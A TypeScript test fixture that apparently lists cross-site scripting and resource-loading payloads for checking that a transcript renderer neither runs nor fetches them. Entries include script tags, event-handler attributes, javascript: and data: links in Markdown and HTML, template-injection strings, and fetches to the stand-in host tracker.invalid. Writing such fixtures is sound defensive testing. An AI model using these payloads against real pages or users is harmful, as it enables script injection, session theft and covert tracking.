/** What somebody puts into a transcript to have it run in the reader's browser, or to learn that it was read. */

/** No such host: a request for it is a fault of the test's browser. */
const THERE = "http://tracker.invalid";

const RUN = `window.pwned=true;fetch('${THERE}/ran')`;

/** Texts, each one that some renderer once ran or loaded. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${THERE}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${THERE}/pixel.png">`,
  `![alt](${THERE}/markdown.png)`,
  `![alt](x "title" onerror=alert(1))`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg=="/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java&#x0a;script:${RUN})`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9dHJ1ZTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `<javascript:${RUN}>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.pwned=true</script>"></iframe>`,
  `<object data="${THERE}/o"></object><embed src="${THERE}/e">`,
  `<link rel="stylesheet" href="${THERE}/s.css"><style>@import "${THERE}/i.css"; body{background:url(${THERE}/b.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${THERE}/m">`,
  `<base href="${THERE}/">`,
  `<form action="${THERE}/f"><button autofocus onfocus="${RUN}">go</button></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video autoplay onloadstart="${RUN}"><source src="${THERE}/v.mp4"></video>`,
  `"><img src=x onerror=${RUN}>`,
  `'-alert(1)-'`,
  "${constructor.constructor('window.pwned=true')()}",
  "{{constructor.constructor('window.pwned=true')()}}",
  `\`\`\`html\n<img src=x onerror="${RUN}">\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `| a | b |\n| - | - |\n| <img src=x onerror="${RUN}"> | [x](javascript:${RUN}) |`,
  `[ref]: javascript:${RUN}\n[ref][ref]`,
  `<${THERE}/autolink> and ${THERE}/bare`,
  `\u202Egnp.exe\u202C <b onmouseover="${RUN}">hover</b>`,
  `__proto__`,
  `]]><!--><script>${RUN}</script><!--`,
];

/** Addresses where one is expected. */
export const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `${THERE}/image.png`,
  `//tracker.invalid/image.png`,
  `blob:${THERE}/1`,
];
